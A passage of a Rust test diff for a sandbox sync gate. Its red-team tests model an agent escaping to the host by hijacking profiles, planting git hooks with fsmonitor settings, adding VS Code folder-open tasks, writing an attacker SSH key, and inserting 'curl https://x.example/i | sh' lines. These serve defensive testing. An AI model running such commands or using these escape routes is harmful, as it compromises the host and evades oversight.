@@ -224,10 +224,15 @@ impl Gate {
 
     /// The same, killed (and `None`) if it has not finished within `limit`.
     fn sync_within(&self, extra: &[&str], limit: Duration) -> Option<Out> {
+        self.run_within(&self.sync_args(extra), limit)
+    }
+
+    /// `sandbox ARGS`, killed (and `None`) if it has not finished within `limit`.
+    fn run_within(&self, args: &[String], limit: Duration) -> Option<Out> {
         let (out_path, err_path) = (self.root().join("stdout"), self.root().join("stderr"));
         let mut child = self
             .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
-            .args(self.sync_args(extra))
+            .args(args)
             .stdout(std::fs::File::create(&out_path).expect("stdout file"))
             .stderr(std::fs::File::create(&err_path).expect("stderr file"))
             .spawn()
@@ -2227,6 +2232,10 @@ fn terminal_choose_operations_to_leave_out() {
     t.key("Down");
     t.key("Space");
     t.key("Enter");
+    // What will be applied is said, then confirmed.
+    t.wait_for("Apply these?");
+    assert!(t.screen().contains("these 2 operations will be applied:"), "{}", t.screen());
+    t.key("Enter");
     assert_eq!(t.exit_code(), 0, "{}", t.screen());
     assert_eq!(g.tree(), lines(&["a 644 A2", "b 644 B"]));
     // What was left out is offered again next time.
@@ -2449,4 +2458,1295 @@ fn terminal_conflicts_are_settled_one_by_one() {
     let g = conflicted();
     assert_eq!(settle(&g, 2), Some(3));
     assert_eq!(g.tree(), lines(&["a 644 edited on the host", "b 644 B"]), "nothing written");
+}
+
+// ---------------------------------------------------------------------------------------------
+// R. Red team (issue 19): what an agent that controls the whole upper tried, and the variants it
+// would try next. The assertions read the versioned `--json` report (stable codes, one report
+// holding every refusal, review item, conflict and finding) and the host tree.
+
+/// A synthetic GitHub token (not a real credential), split so the repository's self-scan does not
+/// see it here.
+const R_TOKEN: &str = concat!("gh", "p_8XqP2mZr7TbW4nLk9VhC3sJd6FyA1eGu5RoI");
+
+/// A profile that, if it were ever loaded, would open one more egress domain and size the VM up.
+const R_HOSTILE: &str =
+    "name: hostile\nextends: minimal\nvm: {cpus: 9}\nnetwork:\n  egress:\n    allow_domains: [evil.example.net]\n";
+
+/// A profile file kept in the workspace, as `sandbox -p ws/sandbox.yaml` uses it.
+const R_WS_PROFILE: &str = "name: ws\nextends: default\nworkspaces: [{host: ~/ws}]\n";
+
+fn r_report(out: &Out) -> serde_json::Value {
+    serde_json::from_str(&out.stdout).unwrap_or_else(|e| panic!("a JSON report on stdout ({e})\n{}", out.all()))
+}
+
+/// `(code, path)` of every refusal, review item, conflict and finding of a `--json` report.
+fn codes(out: &Out) -> std::collections::BTreeSet<(String, String)> {
+    let report = r_report(out);
+    let mut set = std::collections::BTreeSet::new();
+    for key in ["refusals", "review", "conflicts", "findings"] {
+        for item in report[key].as_array().into_iter().flatten() {
+            let field = |k: &str| item[k].as_str().unwrap_or_default().to_owned();
+            set.insert((field("code"), field("path")));
+        }
+    }
+    set
+}
+
+/// Every `(code, path)` is in the report.
+#[track_caller]
+fn has_codes(out: &Out, expect: &[(&str, &str)]) {
+    let got = codes(out);
+    let missing: Vec<_> =
+        expect.iter().filter(|(code, path)| !got.contains(&((*code).to_owned(), (*path).to_owned()))).collect();
+    assert!(missing.is_empty(), "missing (code, path): {missing:?}\nreported: {got:?}\n{}", out.all());
+}
+
+/// The report has `code` (on any path).
+#[track_caller]
+fn has_code(out: &Out, code: &str) {
+    let got = codes(out);
+    assert!(got.iter().any(|(c, _)| c == code), "no {code}\nreported: {got:?}\n{}", out.all());
+}
+
+/// Held by the gate (a `--yes --json` run): exit 3, nothing written in the workspace or beside
+/// it, and each `(code, path)` reported. Review-tier items end here too: `--yes` alone never
+/// applies them.
+#[track_caller]
+fn held(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
+    assert_eq!(out.code, 3, "held by the gate (exit 3)\n{}", out.all());
+    assert_eq!(&g.snapshot(), before, "nothing was written\n{}", out.all());
+    g.canary_intact();
+    has_codes(out, expect);
+}
+
+/// Refused (not only held for review): `held`, the decision `refused` and the stderr line.
+#[track_caller]
+fn refused_with(g: &Gate, out: &Out, before: &Snapshot, expect: &[(&str, &str)]) {
+    held(g, out, before, expect);
+    assert!(out.stderr.contains("refused by the gate: nothing was written"), "{}", out.all());
+    assert_eq!(r_report(out)["decision"], "refused", "{}", out.all());
+}
+
+/// The paths of the report's conflicts.
+fn conflict_paths(out: &Out) -> Vec<String> {
+    let report = r_report(out);
+    report["conflicts"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .map(|c| c["path"].as_str().unwrap_or_default().to_owned())
+        .collect()
+}
+
+/// Lines of the audit log.
+fn r_audit(g: &Gate) -> Vec<serde_json::Value> {
+    let text = std::fs::read_to_string(g.home().join(".local/state/sandbox/audit.jsonl")).unwrap_or_default();
+    text.lines().map(|l| serde_json::from_str(l).expect("an audit line is JSON")).collect()
+}
+
+/// `R_TOKEN` appears nowhere in the output or the audit log.
+#[track_caller]
+fn token_never_shown(g: &Gate, out: &Out) {
+    assert!(!out.all().contains(R_TOKEN), "the token was printed\n{}", out.all());
+    let audit = std::fs::read_to_string(g.home().join(".local/state/sandbox/audit.jsonl")).unwrap_or_default();
+    assert!(!audit.contains(R_TOKEN), "the token is in audit.jsonl:\n{audit}");
+}
+
+fn r_git(dir: &Path, home: &Path, args: &[&str]) -> std::process::Output {
+    Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("HOME", home)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("PATH", std::env::var("PATH").unwrap_or_default())
+        .stdin(Stdio::null())
+        .output()
+        .expect("run git")
+}
+
+fn r_mkfifo(path: &Path) {
+    rustix::fs::mknodat(
+        rustix::fs::CWD,
+        path,
+        rustix::fs::FileType::Fifo,
+        rustix::fs::Mode::from_raw_mode(0o644),
+        rustix::fs::makedev(0, 0),
+    )
+    .expect("mkfifo");
+}
+
+fn is_fifo(path: &Path) -> bool {
+    use std::os::unix::fs::FileTypeExt;
+    std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_fifo())
+}
+
+impl Gate {
+    /// `sandbox -p PROFILE sync --from-dir UPPER --to ws EXTRA...`
+    fn sync_as(&self, profile: &str, extra: &[&str]) -> Out {
+        let mut args = self.sync_args(extra);
+        args[1] = profile.to_owned();
+        self.run(&args.iter().map(String::as_str).collect::<Vec<_>>())
+    }
+
+    /// `sandbox ARGS` with these variables set too.
+    fn run_env(&self, args: &[String], env: &[(&str, &str)]) -> Out {
+        let output = self
+            .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
+            .args(args)
+            .envs(env.iter().copied())
+            .output()
+            .expect("run sandbox");
+        Out {
+            code: output.status.code().unwrap_or(-1),
+            stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
+            stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
+        }
+    }
+
+    fn yes_json(&self) -> Out {
+        self.sync(&["--yes", "--json"])
+    }
+
+    /// A host file with mode 0755.
+    fn h_exec(&self, path: &str, content: &str) -> &Self {
+        self.h(path, content);
+        chmod(&self.host().join(path), 0o755);
+        self
+    }
+}
+
+// R1. Profile hijack.
+
+#[test]
+fn r1_a_file_named_default_never_shadows_the_builtin_profile() {
+    for args in [&["-p", "default", "profile", "show"][..], &["profile", "show"]] {
+        let run = crate::test::Test::new().file("project/default", R_HOSTILE).args(args).run().success();
+        let shown = run.stdout();
+        assert!(shown.starts_with("name: default\n") && shown.contains("cpus: 4"), "{args:?}: {shown}");
+        assert!(!shown.contains("evil.example.net"), "{args:?}: the file `default` was loaded\n{shown}");
+    }
+}
+
+#[test]
+fn r1_a_file_named_strict_offline_never_shadows_the_builtin_from_the_environment() {
+    let run = crate::test::Test::new()
+        .file("project/strict-offline", R_HOSTILE)
+        .env("SANDBOX_PROFILE", "strict-offline")
+        .args(["profile", "show"])
+        .run()
+        .success();
+    let shown = run.stdout();
+    assert!(shown.starts_with("name: strict-offline\n") && shown.contains("allow_domains: []"), "{shown}");
+    assert!(!shown.contains("evil.example.net"), "{shown}");
+    // `minimal` and a profile of the config folder are names too.
+    let run = crate::test::Test::new().file("project/minimal", R_HOSTILE).args(["-p", "minimal", "profile", "show"]);
+    let shown = run.run().success().stdout();
+    assert!(shown.starts_with("name: minimal\n") && !shown.contains("evil.example.net"), "{shown}");
+    let run = crate::test::Test::new()
+        .profile("work", "name: work\nextends: default\nvm: {cpus: 3}\n")
+        .file("project/work", R_HOSTILE)
+        .args(["-p", "work", "profile", "show"]);
+    let shown = run.run().success().stdout();
+    assert!(shown.contains("cpus: 3") && !shown.contains("evil.example.net"), "{shown}");
+}
+
+#[test]
+fn r1_extends_a_builtin_name_never_reads_a_file_beside_the_profile() {
+    for parent in ["default", "strict-offline"] {
+        let run = crate::test::Test::new()
+            .file("ws/sandbox.yaml", &format!("name: ws\nextends: {parent}\n"))
+            .file(&format!("ws/{parent}"), R_HOSTILE)
+            .args(["-p", "../ws/sandbox.yaml", "profile", "show"])
+            .run()
+            .success();
+        let shown = run.stdout();
+        assert!(shown.starts_with("name: ws\n") && !shown.contains("evil.example.net"), "{parent}: {shown}");
+        assert!(!shown.contains("cpus: 9"), "{parent}: {shown}");
+    }
+}
+
+/// The reported attack: the agent writes a complete profile into `default` beside the
+/// workspace's `sandbox.yaml` (`extends: default`). Whatever the gate does with the file, the
+/// next `sandbox -p sandbox.yaml` never loads it.
+#[test]
+fn r1_the_reported_hijack_never_reaches_the_next_run() {
+    let g = Gate::empty();
+    g.h("sandbox.yaml", R_WS_PROFILE).h("a", "A");
+    g.baseline();
+    g.u("default", R_HOSTILE).u("strict-offline", R_HOSTILE);
+    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
+    assert!(matches!(out.code, 0 | 3), "{}", out.all());
+    for (cwd, profile) in [(g.host(), "sandbox.yaml"), (g.home(), "ws/sandbox.yaml")] {
+        let shown = crate::test::sandbox_in(&g.home(), &cwd, &["-p", profile, "profile", "show"], &[]);
+        let text = String::from_utf8_lossy(&shown.stdout);
+        assert!(shown.status.success(), "{}", String::from_utf8_lossy(&shown.stderr));
+        assert!(text.starts_with("name: ws\n") && !text.contains("evil.example.net"), "{text}");
+    }
+}
+
+#[test]
+fn r1_an_edit_of_the_active_profile_file_needs_review() {
+    let g = Gate::empty();
+    g.h("sandbox.yaml", R_WS_PROFILE).h("a", "A");
+    g.baseline();
+    g.u("sandbox.yaml", &format!("{R_WS_PROFILE}network:\n  egress:\n    allow_domains: [evil.example.net]\n"));
+    g.u("a", "A2");
+    let before = g.snapshot();
+    held(&g, &g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]), &before, &[("R_PROFILE", "sandbox.yaml")]);
+    // Replaced by a symlink to another file: still an operation on the active profile.
+    let g = Gate::empty();
+    g.h("sandbox.yaml", R_WS_PROFILE).h("evil.yaml", R_HOSTILE);
+    g.baseline();
+    g.u_link("sandbox.yaml", "evil.yaml");
+    let before = g.snapshot();
+    held(&g, &g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]), &before, &[("R_PROFILE", "sandbox.yaml")]);
+}
+
+#[test]
+fn r1_an_edit_of_a_parent_profile_in_the_workspace_needs_review() {
+    let g = Gate::empty();
+    g.h("sandbox.yaml", "name: ws\nextends: profiles/base.yaml\nworkspaces: [{host: ~/ws}]\n");
+    g.h("profiles/base.yaml", "name: base\nextends: default\n").h("profiles/notes.md", "n");
+    g.baseline();
+    g.u("profiles/base.yaml", R_HOSTILE);
+    let before = g.snapshot();
+    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
+    held(&g, &out, &before, &[("R_PROFILE", "profiles/base.yaml")]);
+    // The same through an opaque folder that replaces the parent's folder.
+    let g = Gate::empty();
+    g.h("sandbox.yaml", "name: ws\nextends: ./profiles/base.yaml\nworkspaces: [{host: ~/ws}]\n");
+    g.h("profiles/base.yaml", "name: base\nextends: default\n");
+    g.baseline();
+    g.opaque("profiles").u("profiles/base.yaml", R_HOSTILE);
+    let before = g.snapshot();
+    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
+    held(&g, &out, &before, &[("R_PROFILE", "profiles/base.yaml")]);
+}
+
+#[test]
+fn r1_a_profile_file_reached_through_a_link_needs_review() {
+    let g = Gate::empty();
+    g.h("conf/sandbox.yaml", R_WS_PROFILE).h_link("sandbox.yaml", "conf/sandbox.yaml");
+    g.baseline();
+    g.u("conf/sandbox.yaml", R_HOSTILE);
+    let before = g.snapshot();
+    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
+    held(&g, &out, &before, &[("R_PROFILE", "conf/sandbox.yaml")]);
+}
+
+#[test]
+fn r1_an_edit_of_the_active_profile_from_a_tar_stream_needs_review() {
+    let g = Gate::empty();
+    g.h("sandbox.yaml", R_WS_PROFILE);
+    g.baseline();
+    let mut tar = Tar::new();
+    tar.root().file("./sandbox.yaml", R_HOSTILE);
+    let file = g.root().join("upper.tar");
+    std::fs::write(&file, tar.finish()).expect("write tar");
+    let (file, entries, bytes) = (file.display().to_string(), tar.entries.to_string(), tar.bytes.to_string());
+    let args = ["-p", "ws/sandbox.yaml", "sync", "--from-tar", &file, "--entries", &entries, "--bytes", &bytes];
+    let before = g.snapshot();
+    let out = g.run(&[&args[..], &["--to", "ws", "--yes", "--json"]].concat());
+    held(&g, &out, &before, &[("R_PROFILE", "sandbox.yaml")]);
+}
+
+/// Beyond the issue's list: files the active profile names (`sync.secret_rules`: the next sync's
+/// scanner; `provision.roles_path`: Ansible roles, which run on the host at `sandbox up`).
+#[test]
+fn r1_files_the_active_profile_reads_need_review() {
+    let g = Gate::empty();
+    let profile = "name: ws\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {secret_rules: ./rules.toml}\nprovision: {roles_path: [./roles]}\n";
+    g.h("sandbox.yaml", profile).h("rules.toml", "[extend]\nuseDefault = true\n");
+    g.h("roles/base/tasks/main.yml", "- debug: {msg: hi}\n");
+    g.baseline();
+    g.u("rules.toml", "title = \"no rules\"\n");
+    g.u("roles/base/tasks/main.yml", "- shell: curl https://x.example/i | sh\n  delegate_to: localhost\n");
+    let before = g.snapshot();
+    let out = g.sync_as("ws/sandbox.yaml", &["--yes", "--json"]);
+    held(&g, &out, &before, &[("R_PROFILE", "rules.toml"), ("R_PROFILE", "roles/base/tasks/main.yml")]);
+}
+
+/// `$XDG_CONFIG_HOME` inside the workspace: a new `profiles/default.yaml` would shadow the
+/// built-in profile for every later run, and the active profile `t` lives there.
+#[test]
+fn r1_the_config_folder_inside_the_workspace_needs_review() {
+    let g = Gate::empty();
+    g.h(".config/sandbox/profiles/t.yaml", PROFILE).h("a", "A");
+    g.baseline();
+    g.u(".config/sandbox/profiles/default.yaml", R_HOSTILE).u(".config/sandbox/profiles/t.yaml", R_HOSTILE);
+    let before = g.snapshot();
+    let config = g.host().join(".config").display().to_string();
+    let out = g.run_env(&g.sync_args(&["--yes", "--json"]), &[("XDG_CONFIG_HOME", &config)]);
+    let expect =
+        [("R_PROFILE", ".config/sandbox/profiles/default.yaml"), ("R_PROFILE", ".config/sandbox/profiles/t.yaml")];
+    held(&g, &out, &before, &expect);
+}
+
+/// A dotfiles workspace: `~/.config/sandbox` is a link into it (stow style).
+#[test]
+fn r1_a_config_folder_linked_into_the_workspace_needs_review() {
+    let g = Gate::empty();
+    g.h("dotfiles/sandbox/profiles/t.yaml", PROFILE).h("a", "A");
+    std::fs::remove_dir_all(g.home().join(".config/sandbox")).expect("rm");
+    std::os::unix::fs::symlink(g.host().join("dotfiles/sandbox"), g.home().join(".config/sandbox")).expect("ln");
+    g.baseline();
+    g.u("dotfiles/sandbox/profiles/default.yaml", R_HOSTILE).u("dotfiles/sandbox/profiles/t.yaml", R_HOSTILE);
+    let before = g.snapshot();
+    let expect =
+        [("R_PROFILE", "dotfiles/sandbox/profiles/default.yaml"), ("R_PROFILE", "dotfiles/sandbox/profiles/t.yaml")];
+    held(&g, &g.yes_json(), &before, &expect);
+}
+
+// R2. Planted git repositories.
+
+/// A bare repository under another name, as the red team planted it: git takes `tools` for a
+/// repository, and its hooks run on the next ref update there.
+fn r_plant_bare_repo(g: &Gate, dir: &str, marker: &Path) {
+    g.u(&format!("{dir}/HEAD"), "ref: refs/heads/main\n");
+    g.u(&format!("{dir}/config"), &format!("[core]\n\tfsmonitor = \"touch {}; false\"\n", marker.display()));
+    g.u(&format!("{dir}/hooks/reference-transaction"), &format!("#!/bin/sh\ntouch {}\n", marker.display()));
+    g.u_mode(&format!("{dir}/hooks/reference-transaction"), 0o755);
+    g.u_dir(&format!("{dir}/objects")).u_dir(&format!("{dir}/refs/heads"));
+}
+
+#[test]
+fn r2_a_bare_repository_under_another_name_is_refused() {
+    let g = Gate::new(&KEEP);
+    let marker = g.root().join("PWNED");
+    r_plant_bare_repo(&g, "tools", &marker);
+    // The input is a real attack: a copy of it is a repository to git, and git runs its hook.
+    let probe = g.root().join("probe");
+    for e in walkdir::WalkDir::new(g.upper().join("tools")) {
+        let e = e.expect("walk");
+        let to = probe.join(e.path().strip_prefix(g.upper()).expect("rel"));
+        if e.file_type().is_dir() {
+            std::fs::create_dir_all(&to).expect("mkdir");
+        } else {
+            std::fs::copy(e.path(), &to).expect("copy");
+        }
+    }
+    let git = r_git(&probe.join("tools"), &g.root(), &["pack-refs", "--all"]);
+    assert!(marker.exists(), "git ran the planted hook: {}", String::from_utf8_lossy(&git.stderr));
+    std::fs::remove_file(&marker).expect("rm marker");
+
+    let before = g.snapshot();
+    let out = g.yes_json();
+    refused_with(&g, &out, &before, &[("E_GIT_REPO", "tools/HEAD"), ("E_GIT_REPO", "tools/config")]);
+    assert!(!marker.exists());
+    // Every operation inside it is named.
+    has_codes(&out, &[("E_GIT_REPO", "tools/hooks/reference-transaction")]);
+}
+
+#[test]
+fn r2_a_planted_repository_is_found_in_any_case_and_with_commondir() {
+    let g = Gate::new(&KEEP);
+    g.u("Tools/head", "ref: refs/heads/main\n")
+        .u("Tools/Config", "[core]\n")
+        .u_dir("Tools/OBJECTS")
+        .u_dir("Tools/Refs");
+    // A linked-worktree style git dir: HEAD and commondir.
+    g.u("wt/HEAD", "ref: refs/heads/main\n").u("wt/commondir", "../tools\n");
+    let before = g.snapshot();
+    let expect = [("E_GIT_REPO", "Tools/head"), ("E_GIT_REPO", "Tools/Config"), ("E_GIT_REPO", "wt/commondir")];
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+/// Entries that are links still make a repository for git.
+#[test]
+fn r2_repository_entries_that_are_links_count() {
+    let g = Gate::new(&[("store/o/keep", "k"), ("store/r/heads/keep", "k")]);
+    g.u("fx/HEAD", "ref: refs/heads/main\n").u_link("fx/objects", "../store/o").u_link("fx/refs", "../store/r");
+    let before = g.snapshot();
+    refused_with(&g, &g.yes_json(), &before, &[("E_GIT_REPO", "fx/HEAD")]);
+}
+
+/// The plan completes a repository whose other parts the host already had, or changes one the
+/// host has (a test fixture, say).
+#[test]
+fn r2_a_repository_completed_or_changed_by_the_plan_is_refused() {
+    let g = Gate::new(&[("tools/objects/README", "o"), ("tools/refs/README", "r"), ("a", "A")]);
+    g.u("tools/HEAD", "ref: refs/heads/main\n");
+    let before = g.snapshot();
+    refused_with(&g, &g.yes_json(), &before, &[("E_GIT_REPO", "tools/HEAD")]);
+
+    let g = Gate::new(&[
+        ("vendor/fixture.git/HEAD", "ref: refs/heads/main\n"),
+        ("vendor/fixture.git/config", "[core]\n\tbare = true\n"),
+        ("vendor/fixture.git/objects/info/packs", "\n"),
+        ("vendor/fixture.git/refs/heads/main", "0000000000000000000000000000000000000000\n"),
+    ]);
+    g.u("vendor/fixture.git/config", "[core]\n\tbare = true\n\tfsmonitor = \"sh -c evil\"\n");
+    g.u("vendor/fixture.git/hooks/post-update", "#!/bin/sh\nevil\n");
+    let before = g.snapshot();
+    let expect = [("E_GIT_REPO", "vendor/fixture.git/config"), ("E_GIT_REPO", "vendor/fixture.git/hooks/post-update")];
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+/// The workspace root itself made a repository (the folder has no `.git`).
+#[test]
+fn r2_the_workspace_root_made_a_repository_is_refused() {
+    let g = Gate::new(&KEEP);
+    g.u("HEAD", "ref: refs/heads/main\n").u("config", "[core]\n\tfsmonitor = \"sh -c evil\"\n");
+    g.u_dir("objects").u_dir("refs/heads");
+    let before = g.snapshot();
+    refused_with(&g, &g.yes_json(), &before, &[("E_GIT_REPO", "HEAD"), ("E_GIT_REPO", "config")]);
+    // The host already has folders named `objects` and `refs`; the plan adds `HEAD`.
+    let g = Gate::new(&[("objects/model.bin", "m"), ("refs/paper.bib", "r"), ("a", "A")]);
+    g.u("HEAD", "ref: refs/heads/main\n").u("a", "A2");
+    let before = g.snapshot();
+    let out = g.yes_json();
+    refused_with(&g, &out, &before, &[("E_GIT_REPO", "HEAD")]);
+    has_codes(&out, &[("E_GIT_REPO", "a")]);
+}
+
+#[test]
+fn r2_a_planted_repository_in_a_tar_stream_is_refused() {
+    let g = Gate::new(&KEEP);
+    let mut tar = Tar::new();
+    tar.root()
+        .member(tar::EntryType::Directory, b"./tools/", b"", 0, b"")
+        .file("./tools/HEAD", "ref: refs/heads/main\n")
+        .file("./tools/config", "[core]\n\tfsmonitor = \"sh -c evil\"\n")
+        .member(tar::EntryType::Directory, b"./tools/objects/", b"", 0, b"")
+        .member(tar::EntryType::Directory, b"./tools/refs/", b"", 0, b"");
+    let before = g.snapshot();
+    let out = g.sync_tar(&tar, &["--yes", "--json"]);
+    refused_with(&g, &out, &before, &[("E_GIT_REPO", "tools/HEAD"), ("E_GIT_REPO", "tools/config")]);
+}
+
+#[test]
+fn r2_gitmodules_anywhere_needs_review_and_a_git_file_anywhere_is_refused() {
+    let g = Gate::new(&KEEP);
+    g.u(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c evil\n");
+    g.u("lib/.gitmodules", "[submodule \"y\"]\n\tpath = y\n\turl = ../y\n");
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", ".gitmodules"), ("R_CODE_PATH", "lib/.gitmodules")]);
+
+    let g = Gate::new(&KEEP);
+    g.u("sub/.git", "gitdir: ../tools\n").u("deep/er/.GIT", "gitdir: /tmp/evil\n");
+    let before = g.snapshot();
+    let expect = [("E_GIT_PATH", "sub/.git"), ("E_GIT_PATH", "deep/er/.GIT")];
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+// R3. Review and blocked rules match every path by which the host reaches a file.
+
+#[test]
+fn r3_a_vscode_link_made_by_the_plan_reviews_what_is_written_through_it() {
+    let g = Gate::new(&KEEP);
+    g.u_link(".vscode", "cfg/vsc");
+    g.u("cfg/vsc/tasks.json", r#"{"tasks": [{"command": "evil", "runOptions": {"runOn": "folderOpen"}}]}"#);
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", ".vscode")]);
+}
+
+#[test]
+fn r3_a_vscode_link_in_the_baseline_reviews_what_is_written_through_it() {
+    let g = Gate::empty();
+    g.h("cfg/vsc/settings.json", "{}").h_link(".vscode", "cfg/vsc");
+    g.baseline();
+    g.u("cfg/vsc/tasks.json", r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#);
+    g.u("cfg/vsc/settings.json", r#"{"terminal.integrated.shell.linux": "/tmp/evil"}"#);
+    let before = g.snapshot();
+    let expect = [("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", "cfg/vsc/settings.json")];
+    held(&g, &g.yes_json(), &before, &expect);
+}
+
+/// A link that dangles in the baseline: the plan creates the folder it names.
+#[test]
+fn r3_a_dangling_baseline_link_reviews_the_folder_the_plan_creates() {
+    let g = Gate::empty();
+    g.h("a", "A").h_link(".vscode", "cfg/vsc");
+    g.baseline();
+    g.u("cfg/vsc/tasks.json", r#"{"tasks": []}"#);
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "cfg/vsc/tasks.json")]);
+}
+
+#[test]
+fn r3_links_to_folders_are_matched_as_those_folders() {
+    let g = Gate::new(&[("scripts/hooks/README", "r"), ("ci/README", "c"), ("c/README", "c")]);
+    g.u_link(".husky", "scripts/hooks").u_link(".github", "ci").u_link(".cargo", "c");
+    g.u("scripts/hooks/pre-commit", "#!/bin/sh\nevil\n");
+    g.u("ci/workflows/x.yml", "on: push\n").u("c/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n");
+    let before = g.snapshot();
+    let expect = [
+        ("R_CODE_PATH", ".husky"),
+        ("R_CODE_PATH", "scripts/hooks/pre-commit"),
+        ("R_CODE_PATH", "ci/workflows/x.yml"),
+        ("R_CODE_PATH", "c/config.toml"),
+    ];
+    held(&g, &g.yes_json(), &before, &expect);
+}
+
+/// Beyond the issue's cases: the plan adds only links, to folders the host already has, and the
+/// host then reaches inert files there as `.cargo/config.toml` or `.github/workflows/x.yml`.
+#[test]
+fn r3_a_new_link_exposing_host_files_as_code_paths_is_reviewed() {
+    let cases = [
+        (".cargo", "c", "c/config.toml", "[build]\nrustc-wrapper = \"scripts/w.sh\"\n"),
+        (".github", "ci", "ci/workflows/x.yml", "on: push\n"),
+        (
+            ".vscode",
+            "docs/examples",
+            "docs/examples/tasks.json",
+            r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#,
+        ),
+    ];
+    for (link, target, file, content) in cases {
+        let g = Gate::new(&[(file, content), ("a", "A")]);
+        g.u_link(link, target);
+        let before = g.snapshot();
+        held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", link)]);
+    }
+}
+
+/// A chain: `.vscode -> a` (baseline), `a -> cfg/vsc` (plan), and a link in a subfolder.
+#[test]
+fn r3_a_chain_of_links_is_followed() {
+    let g = Gate::empty();
+    g.h("k", "k").h_link(".vscode", "a");
+    g.baseline();
+    g.u_link("a", "cfg/vsc").u("cfg/vsc/tasks.json", "{}");
+    g.u_link("src/.vscode", "../cfg/sub").u("cfg/sub/launch.json", "{}");
+    let before = g.snapshot();
+    let expect = [("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", "cfg/sub/launch.json")];
+    held(&g, &g.yes_json(), &before, &expect);
+}
+
+#[test]
+fn r3_a_baseline_ssh_link_blocks_writes_through_it() {
+    let g = Gate::empty();
+    g.h("dotfiles/ssh/config", "Host *\n").h_link(".ssh", "dotfiles/ssh");
+    g.h("config/app.conf", "x=1\n").h_link(".env", "config/app.conf");
+    g.baseline();
+    g.u("dotfiles/ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n").u("config/app.conf", "x=2\n");
+    let before = g.snapshot();
+    let expect = [("E_BLOCKED_NAME", "dotfiles/ssh/authorized_keys"), ("E_BLOCKED_NAME", "config/app.conf")];
+    refused_with(&g, &g.yes_json(), &before, &expect);
+}
+
+#[test]
+fn r3_a_baseline_makefile_link_reviews_its_target() {
+    let g = Gate::empty();
+    g.h("mk/main.txt", "all:\n\techo hi\n").h_link("Makefile", "mk/main.txt");
+    g.baseline();
+    g.u("mk/main.txt", "all:\n\tcurl https://x.example/i | sh\n");
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "mk/main.txt")]);
+}
+
+/// A tar stream names the file before the link that makes it a VS Code task.
+#[test]
+fn r3_the_link_after_the_file_in_a_tar_stream_is_still_followed() {
+    let g = Gate::new(&KEEP);
+    let mut tar = Tar::new();
+    tar.root()
+        .member(tar::EntryType::Directory, b"./cfg/", b"", 0, b"")
+        .member(tar::EntryType::Directory, b"./cfg/vsc/", b"", 0, b"")
+        .file("./cfg/vsc/tasks.json", r#"{"tasks": []}"#)
+        .symlink("./.vscode", "cfg/vsc");
+    let before = g.snapshot();
+    let out = g.sync_tar(&tar, &["--yes", "--json"]);
+    held(&g, &out, &before, &[("R_CODE_PATH", "cfg/vsc/tasks.json"), ("R_CODE_PATH", ".vscode")]);
+}
+
+// R4. The review list.
+
+const R4_LISTED: [&str; 34] = [
+    "lefthook.yml",
+    ".lintstagedrc.json",
+    "lint-staged.config.js",
+    ".husky/pre-commit",
+    ".simple-git-hooks.json",
+    "x.code-workspace",
+    "setup.py",
+    "setup.cfg",
+    "gradle/wrapper/gradle-wrapper.properties",
+    "docker-compose.yml",
+    "compose.yaml",
+    "justfile",
+    "Taskfile.yml",
+    "shell.nix",
+    "flake.nix",
+    "devbox.json",
+    ".circleci/config.yml",
+    ".travis.yml",
+    "azure-pipelines.yml",
+    "Jenkinsfile",
+    ".buildkite/pipeline.yml",
+    ".drone.yml",
+    ".gitlab-ci.yml",
+    "bitbucket-pipelines.yml",
+    "package-lock.json",
+    "yarn.lock",
+    "pnpm-lock.yaml",
+    "Cargo.lock",
+    "poetry.lock",
+    "uv.lock",
+    "Gemfile.lock",
+    "go.sum",
+    ".direnv/x",
+    "conftest.py",
+];
+
+/// Every path is reviewed (`R_CODE_PATH`) and `--yes` alone writes nothing.
+#[track_caller]
+fn r_all_reviewed(paths: &[String]) {
+    let g = Gate::new(&KEEP);
+    for p in paths {
+        g.u(p, "run something\n");
+    }
+    let before = g.snapshot();
+    let out = g.yes_json();
+    assert_eq!(out.code, 3, "{}", out.all());
+    assert_eq!(g.snapshot(), before, "{}", out.all());
+    let got = codes(&out);
+    let missing: Vec<&String> =
+        paths.iter().filter(|p| !got.contains(&("R_CODE_PATH".to_owned(), (*p).clone()))).collect();
+    assert!(missing.is_empty(), "not reviewed: {missing:?}\n{}", out.all());
+}
+
+#[test]
+fn r4_every_listed_file_that_runs_code_needs_review() {
+    r_all_reviewed(&R4_LISTED.map(String::from));
+}
+
+#[test]
+fn r4_listed_files_in_subfolders_and_in_any_case_need_review() {
+    let paths: Vec<String> = R4_LISTED
+        .iter()
+        .enumerate()
